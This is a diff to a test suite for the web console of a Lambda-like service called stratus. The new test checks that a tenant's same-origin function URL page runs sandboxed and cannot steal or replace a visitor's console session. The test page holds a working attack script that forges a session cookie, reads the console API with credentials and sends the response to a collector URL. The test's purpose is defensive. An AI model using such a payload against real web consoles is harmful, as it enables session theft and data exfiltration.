@@ -1,12 +1,13 @@
 // Attacks on the web console of a real `stratus up`: a hostile tenant's strings (description,
 // variables, tags, log output, invoke response) shown in real Chromium as literal text with no
 // script run; another account's functions out of reach through every console API; tampered session
-// cookies; cross-origin (CSRF) posts from a page of another origin; a deleted key's session.
+// cookies; cross-origin (CSRF) posts from a page of another origin; a deleted key's session; a
+// tenant's function URL page on the same origin, which runs sandboxed.
 import assert from 'node:assert/strict';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { after, before, describe, test } from 'node:test';
-import { CreateFunctionCommand, type LambdaClient } from '@aws-sdk/client-lambda';
+import { AddPermissionCommand, CreateFunctionCommand, CreateFunctionUrlConfigCommand, type LambdaClient } from '@aws-sdk/client-lambda';
 import type { Browser, HTTPResponse, Page } from 'puppeteer-core';
 import { clientFor, createAccount, keyOf, stratusAccounts, type AccountKey, type Key } from '../helpers/accounts.js';
 import { launchChromium, screenshot, signIn, waitForText } from '../helpers/browser.js';
@@ -202,5 +203,42 @@ describe('web console attacks', () => {
     assert.equal(deleted.code, 0, deleted.stderr);
     for (const path of ['session', 'functions', 'environments']) assert.equal((await get(cookie, path)).status, 401, path);
     assert.equal((await post(cookie, 'logout', {})).status, 204, 'signing out needs no session');
+  });
+
+  test("a tenant's function URL page, on the same origin, can neither read the console with a visitor's session nor replace it", async () => {
+    const page = `<!doctype html><p id="done">page</p><script>
+try { document.cookie = 'stratus_console=forged; path=/_stratus/console/'; } catch (e) { fetch('${hit}/url-cookie-refused'); }
+fetch('/_stratus/console/api/functions', { credentials: 'include' })
+  .then((r) => r.text()).then((t) => fetch('${hit}/url-stolen?' + encodeURIComponent(t.slice(0, 200))))
+  .catch(() => fetch('${hit}/url-blocked'));
+</script>`;
+    const code = `exports.handler = async () => ({ statusCode: 200, headers: { 'content-type': 'text/html' }, cookies: ['stratus_console=forged; Path=/', 'theirs=1; Path=/'], body: ${JSON.stringify(page)} });`;
+    await lambdaA.send(new CreateFunctionCommand({
+      FunctionName: 'urlpage', Runtime: 'nodejs20.x', Role: 'arn:aws:iam::123456789012:role/r', Handler: 'index.handler', Code: { ZipFile: await makeZip({ 'index.js': code }) },
+    }));
+    await lambdaA.send(new AddPermissionCommand({ FunctionName: 'urlpage', StatementId: 'public', Action: 'lambda:InvokeFunctionUrl', Principal: '*', FunctionUrlAuthType: 'NONE' }));
+    const { FunctionUrl } = await lambdaA.send(new CreateFunctionUrlConfigCommand({ FunctionName: 'urlpage', AuthType: 'NONE' }));
+    const direct = await fetch(FunctionUrl ?? '');
+    assert.match(direct.headers.get('content-security-policy') ?? '', /(^|, )sandbox allow-scripts/);
+    assert.deepEqual(direct.headers.getSetCookie(), ['theirs=1; Path=/'], "the console's cookie is never set by a function");
+
+    // A browser of the visitor's own (the other tests' sessions stay out of it).
+    const context = await browser.createBrowserContext();
+    const victim = await context.newPage();
+    try {
+      await signIn(victim, s.url, keyOf(b));
+      await victim.goto(FunctionUrl ?? '');
+      const reported = async () => hits.filter((h) => h.startsWith('/url-'));
+      for (let i = 0; i < 100 && !(await reported()).some((h) => h === '/url-blocked' || h.startsWith('/url-stolen')); i++) await new Promise((r) => setTimeout(r, 100));
+      const seen = await reported();
+      assert.ok(seen.includes('/url-blocked'), `the page's read of the console was refused: ${JSON.stringify(seen)}`);
+      assert.equal(seen.some((h) => h.startsWith('/url-stolen')), false);
+      await victim.goto(`${s.url}/_stratus/console/api/session`);
+      const session = JSON.parse(await victim.evaluate(() => (globalThis as unknown as { document: { body: { innerText: string } } }).document.body.innerText)) as { accountId?: string };
+      assert.equal(session.accountId, b.AccountId, "the visitor's own session is intact");
+    } finally {
+      await context.close();
+      hits.splice(0, hits.length, ...hits.filter((h) => !h.startsWith('/url-')));
+    }
   });
 });
